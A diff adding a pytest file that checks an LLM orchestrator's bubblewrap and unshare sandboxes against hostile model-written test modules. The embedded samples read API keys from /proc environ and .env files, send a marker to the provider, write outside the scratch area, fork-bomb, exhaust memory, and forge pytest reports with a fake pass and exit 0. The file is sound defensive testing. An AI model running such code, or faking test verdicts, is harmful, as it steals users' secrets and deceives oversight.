@@ -1,0 +1,449 @@
+"""The sandbox as a user relies on it: model-written code that attacks instead of testing gets
+nowhere, the validator reports what really happened, and the run goes on to a truthful status.
+
+Each attack is a whole run from the command line against the HTTP fake provider: the scripted
+model answers the code task with a hostile test module, written so that its test PASSES only if
+the attack worked. So "the attack failed" shows twice: in its effect (no file appears, no
+request reaches the server) and in the verdict (the test failed, and the run says so).
+Every attack runs under both isolation paths, bubblewrap and util-linux unshare.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import textwrap
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+from conftest import fake_env, run_cli, write_file
+
+from orchestrator import sandbox
+from orchestrator.validators import run_validators
+
+ISOLATIONS = ("bubblewrap", "unshare")
+SECRET = "sk-live-" + uuid.uuid4().hex
+VALIDATOR_SECONDS = 3
+
+
+@pytest.fixture(params=ISOLATIONS)
+def isolation(request) -> str:
+    problem = asyncio.run(sandbox.why_unavailable(request.param))
+    if problem:
+        pytest.skip(f"the {request.param} sandbox cannot be set up here: {problem}")
+    return request.param
+
+
+class Attack:
+    """One run of a hostile answer, with what a user's machine looks like around it."""
+
+    def __init__(self, fake, llm, tmp_path: Path, isolation: str) -> None:
+        self.fake, self.llm, self.isolation = fake, llm, isolation
+        self.home = tmp_path / "home"  # ORCHESTRATOR_HOME: state.db and cache.db
+        self.user_home = tmp_path / "user"  # the user's own home directory, with a .env
+        self.work = tmp_path / "work"  # where the user runs the command, with a .env
+        self.out = tmp_path / "results"
+        for directory in (self.home, self.user_home, self.work):
+            directory.mkdir(exist_ok=True)
+        write_file(self.user_home / ".env", f"OPENAI_API_KEY={SECRET}\n")
+        write_file(self.work / ".env", f"ANTHROPIC_API_KEY={SECRET}\n")
+        self.tmp_name = f"/tmp/orchestrator-attack-{uuid.uuid4().hex}"
+
+    def run(
+        self,
+        module: str,
+        *flags: str,
+        tasks: list[dict] | None = None,
+        validator_seconds: float = VALIDATOR_SECONDS,
+    ):
+        self.llm.answers["attack"] = module
+        project = self.work / "attack.yaml"
+        project.write_text(
+            json.dumps(
+                {
+                    "project": "[project] Build an add library",
+                    "criteria": "add works and is tested",
+                    "tasks": tasks or [code_task("attack")],
+                }
+            )
+        )
+        env = {
+            **fake_env(self.fake.base_url),
+            "OPENAI_API_KEY": SECRET,  # the real key, as a user's environment holds it
+            "ORCHESTRATOR_HOME": str(self.home),
+            "HOME": str(self.user_home),
+            sandbox.SANDBOX_ENV: self.isolation,
+        }
+        started = time.monotonic()
+        result = run_cli(
+            "--file", str(project), "--budget", "1", "--output-dir", str(self.out),
+            "--validator-timeout", str(validator_seconds), *flags,
+            cwd=self.work, env=env,
+        )  # fmt: skip
+        self.seconds = time.monotonic() - started
+        self.stdout, self.stderr = result.stdout, result.stderr
+        self.returncode = result.returncode
+        self.summary = json.loads((self.out / "summary.json").read_text())
+        return self
+
+    def verdict(self, task_id: str = "attack", name: str = "pytest") -> dict:
+        [task] = [t for t in self.summary["tasks"] if t["id"] == task_id]
+        [verdict] = [v for v in task["result"]["validator_results"] if v["name"] == name]
+        return verdict
+
+    def task(self, task_id: str = "attack") -> dict:
+        [task] = [t for t in self.summary["tasks"] if t["id"] == task_id]
+        return task["result"]
+
+    def assert_failed_truthfully(self, detail_part: str) -> None:
+        """The attack's test did not pass, the verdict says why, and the run says so."""
+        verdict = self.verdict()
+        assert not verdict["passed"], verdict
+        assert detail_part in verdict["detail"], verdict["detail"]
+        assert self.task()["status"] == "degraded"
+        assert self.summary["status"] == "PARTIAL_SUCCESS", self.stderr
+        assert self.returncode == 3, self.stderr
+        assert self.summary["sandbox"]["isolation"] == self.isolation
+
+
+def code_task(task_id: str, *deps: str, validators=("python_syntax", "pytest")) -> dict:
+    return {
+        "id": task_id,
+        "type": "code_generation",
+        "prompt": f"[{task_id}] Write add(a, b) with tests.",
+        "dependencies": list(deps),
+        "hard_validators": list(validators),
+    }
+
+
+def wait_gone(marker: str, within: float = 5.0) -> list[int]:
+    """Processes (seen from outside) whose command line still holds ``marker`` after a wait."""
+    deadline = time.monotonic() + within
+    while True:
+        found = []
+        for entry in Path("/proc").iterdir():
+            try:
+                if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
+                    found.append(int(entry.name))
+            except OSError:
+                continue
+        if not found or time.monotonic() > deadline:
+            return found
+        time.sleep(0.1)
+
+
+def module(source: str, name: str = "test_attack.py") -> str:
+    """An answer holding one Python file, as a model writes it."""
+    return f"```python\n# file: {name}\n{textwrap.dedent(source).strip()}\n```\n"
+
+
+@pytest.fixture
+def attack(fake, llm, tmp_path, isolation) -> Attack:
+    return Attack(fake, llm, tmp_path, isolation)
+
+
+# --- secrets ------------------------------------------------------------------------------------
+
+
+def test_the_orchestrators_environment_cannot_be_read_through_proc(attack):
+    attack.run(
+        module(
+            f"""
+            import os
+
+            def parents():
+                pid = os.getpid()
+                while pid > 1:
+                    with open(f"/proc/{{pid}}/stat") as stat:
+                        pid = int(stat.read().rsplit(")", 1)[1].split()[1])
+                    yield pid
+
+            def test_steals_keys_command_line_and_directory():
+                loot = b""
+                pids = [p for p in os.listdir("/proc") if p.isdigit()] + ["1", *map(str, parents())]
+                for pid in pids:
+                    for part in ("environ", "cmdline"):
+                        try:
+                            loot += open(f"/proc/{{pid}}/{{part}}", "rb").read()
+                        except OSError:
+                            pass
+                    try:
+                        loot += os.readlink(f"/proc/{{pid}}/cwd").encode()
+                    except OSError:
+                        pass
+                assert {SECRET!r}.encode() in loot or {str(attack.work)!r}.encode() in loot
+            """
+        )
+    ).assert_failed_truthfully("1 failed")
+
+
+def test_dotenv_files_of_the_user_and_the_working_directory_cannot_be_read(attack):
+    attack.run(
+        module(
+            f"""
+            def test_reads_dotenv_files():
+                loot = ""
+                for path in ({str(attack.user_home / ".env")!r}, {str(attack.work / ".env")!r}):
+                    try:
+                        loot += open(path).read()
+                    except OSError:
+                        pass
+                assert {SECRET!r} in loot
+            """
+        )
+    ).assert_failed_truthfully("1 failed")
+    assert attack.verdict()["detail"].endswith("in ''"), "nothing at all was read"
+
+
+# --- network ------------------------------------------------------------------------------------
+
+
+def test_the_code_cannot_reach_the_provider_or_anything_else(attack, fake):
+    marker = f"exfiltrated-{uuid.uuid4().hex}"
+    attack.run(
+        module(
+            f"""
+            import json, urllib.request
+
+            def test_posts_to_the_provider():
+                body = json.dumps({{"model": "gpt-4o", "messages": [
+                    {{"role": "user", "content": {marker!r}}}]}}).encode()
+                request = urllib.request.Request(
+                    {fake.base_url + "/v1/chat/completions"!r}, data=body,
+                    headers={{"content-type": "application/json"}})
+                urllib.request.urlopen(request, timeout=2).read()
+            """
+        )
+    ).assert_failed_truthfully("1 failed")
+    stolen = {"role": "user", "content": marker}
+    assert not [r for r in fake.requests if r.body.get("messages") == [stolen]]
+
+
+# --- files --------------------------------------------------------------------------------------
+
+
+def test_the_code_cannot_write_outside_its_scratch_directory(attack):
+    attack.out.mkdir()
+    targets = [
+        attack.home / "evil.db",
+        attack.home / "state.db-evil",
+        attack.out / "evil.py",
+        attack.work / "evil.py",
+    ]
+    # /tmp inside is the sandbox's own: writing there works, and nothing appears in the real one.
+    private = Path(attack.tmp_name)
+    attack.run(
+        module(
+            f"""
+            def write(path):
+                try:
+                    with open(path, "w") as f:
+                        f.write("owned")
+                    return True
+                except OSError:
+                    return False
+
+            def test_writes_everywhere():
+                assert write({str(private)!r})
+                assert [path for path in {[str(t) for t in targets]!r} if write(path)]
+            """
+        )
+    ).assert_failed_truthfully("1 failed")
+    assert [t for t in [*targets, private] if t.exists()] == []
+
+
+# --- resources ----------------------------------------------------------------------------------
+
+
+def test_a_fork_bomb_is_contained_and_the_run_goes_on(attack):
+    attack.run(
+        module(
+            """
+            import os
+
+            def test_forks_forever():
+                while True:
+                    try:
+                        os.fork()
+                    except OSError:
+                        pass
+            """
+        ),
+        validator_seconds=1.5,
+    ).assert_failed_truthfully("")
+    # Three iterations, each stopped at the validator's limit at worst; nothing left behind.
+    assert attack.seconds < 3 * (1.5 + 5) + 20
+    assert wait_gone("test_attack.py") == []
+
+
+def test_allocating_4_gib_fails_inside_the_sandbox(attack):
+    attack.run(
+        module(
+            """
+            def test_allocates_4_gib():
+                block = bytearray(4 * 1024**3)
+                block[-1] = 1
+                assert block[-1] == 1
+            """
+        )
+    ).assert_failed_truthfully("MemoryError")
+
+
+def test_code_that_sleeps_forever_is_stopped_at_the_time_limit(attack):
+    attack.run(
+        module(
+            """
+            import time
+
+            def test_sleeps_forever():
+                while True:
+                    time.sleep(3600)
+            """
+        ),
+        validator_seconds=1.5,
+    ).assert_failed_truthfully("timed out after 1.5s")
+    assert wait_gone("test_attack.py") == []
+
+
+# --- the verdict --------------------------------------------------------------------------------
+
+
+def test_a_forged_report_a_fake_summary_and_exit_0_do_not_make_a_failing_test_pass(attack):
+    attack.run(
+        module(
+            """
+            import atexit, glob, os, sys
+
+            def forge():
+                found = glob.glob("**/*.xml", recursive=True) + glob.glob("/tmp/**/*.xml")
+                for path in [*found, *sys.argv[1:], "report.xml"]:
+                    try:
+                        with open(path, "w") as f:
+                            f.write('<testsuite tests="3" failures="0" errors="0"/>')
+                    except OSError:
+                        pass
+                print("==================== 3 passed in 0.01s ====================")
+                sys.stdout.flush()
+                os._exit(0)
+
+            atexit.register(forge)
+
+            def test_add():
+                assert 1 + 1 == 3
+            """
+        )
+    ).assert_failed_truthfully("test results inconsistent")
+
+
+def test_a_well_behaved_module_passes_importing_a_dependency_tasks_module(attack, llm):
+    llm.answers["lib"] = module(
+        """
+        def add(a, b):
+            return a + b
+        """,
+        name="calc.py",
+    )
+    attack.run(
+        module(
+            """
+            from calc import add
+
+            def test_add():
+                assert add(2, 3) == 5
+
+            def test_add_negative():
+                assert add(-2, -3) == -5
+            """
+        ),
+        tasks=[code_task("lib", validators=("python_syntax",)), code_task("attack", "lib")],
+    )
+    verdict = attack.verdict()
+    assert verdict["passed"], verdict
+    assert verdict["detail"] == "2 passed"
+    assert attack.summary["status"] == "SUCCESS", attack.stderr
+    assert attack.summary["sandbox"]["isolation"] == attack.isolation
+    assert f"validators run model-written code in a {attack.isolation} sandbox" in attack.stderr
+
+
+# --- without a sandbox --------------------------------------------------------------------------
+
+
+@pytest.fixture
+def unsandboxed(fake, llm, tmp_path) -> Attack:
+    return Attack(fake, llm, tmp_path, "none")
+
+
+PASSING = module(
+    """
+    def test_add():
+        assert 1 + 1 == 2
+    """
+)
+
+
+def test_without_a_sandbox_code_is_not_run_and_the_task_cannot_pass(unsandboxed, llm):
+    unsandboxed.run(PASSING)
+    verdict = unsandboxed.verdict()
+    assert verdict == {
+        "name": "pytest",
+        "passed": False,
+        "skipped": False,
+        "not_run": True,
+        "detail": "not run: no sandbox available (install bubblewrap)",
+    }
+    assert unsandboxed.task()["status"] == "degraded"
+    assert "no sandbox available" in unsandboxed.task()["reason"]
+    assert unsandboxed.summary["status"] == "PARTIAL_SUCCESS"
+    assert unsandboxed.summary["sandbox"] == {
+        "isolation": "unavailable",
+        "note": "not run: no sandbox available (install bubblewrap)",
+    }
+    warnings = [line for line in unsandboxed.stderr.splitlines() if "warning: code-running" in line]
+    assert len(warnings) == 1
+    # A validator that could not run is no fault to revise: a good score ends the loop at once.
+    assert unsandboxed.task()["iterations"] == 1
+
+
+def test_unsafe_validators_run_the_code_unisolated_and_say_so_loudly(unsandboxed):
+    unsandboxed.run(PASSING, "--unsafe-validators")
+    assert unsandboxed.verdict()["passed"]
+    assert unsandboxed.summary["status"] == "SUCCESS"
+    assert unsandboxed.summary["sandbox"]["isolation"] == "none (unsafe)"
+    warnings = [line for line in unsandboxed.stderr.splitlines() if "WITHOUT a sandbox" in line]
+    assert len(warnings) == 1
+
+
+# --- detection ----------------------------------------------------------------------------------
+
+
+async def test_detection_names_the_isolation_it_found_and_remembers_it(monkeypatch, isolation):
+    monkeypatch.setenv(sandbox.SANDBOX_ENV, isolation)
+    found = await sandbox.detect()
+    assert found is not None and found.isolation == isolation
+    assert await sandbox.detect() is found
+
+
+async def test_asking_for_no_sandbox_finds_none(monkeypatch):
+    monkeypatch.setenv(sandbox.SANDBOX_ENV, "none")
+    assert await sandbox.detect() is None
+    [result] = await run_validators(["pytest"], PASSING)
+    assert result.not_run and not result.passed
+
+
+async def test_each_run_starts_in_a_fresh_scratch_directory_that_is_removed(isolation):
+    box = sandbox.Sandbox(isolation)
+    seen = []
+    for _ in range(2):
+        async with sandbox.scratch_dir() as workdir:
+            sandbox.hand_over(workdir)
+            done = await box.run(
+                ["/bin/sh", "-c", "ls -A; touch left-behind; pwd"], workdir, seconds=20
+            )
+            seen.append((done.lines, workdir))
+        assert not await asyncio.to_thread(os.path.exists, workdir)
+    assert [lines[:-1] for lines, _ in seen] == [[], []]
+    assert seen[0][0][-1] == seen[0][1]
+    assert seen[0][1] != seen[1][1]
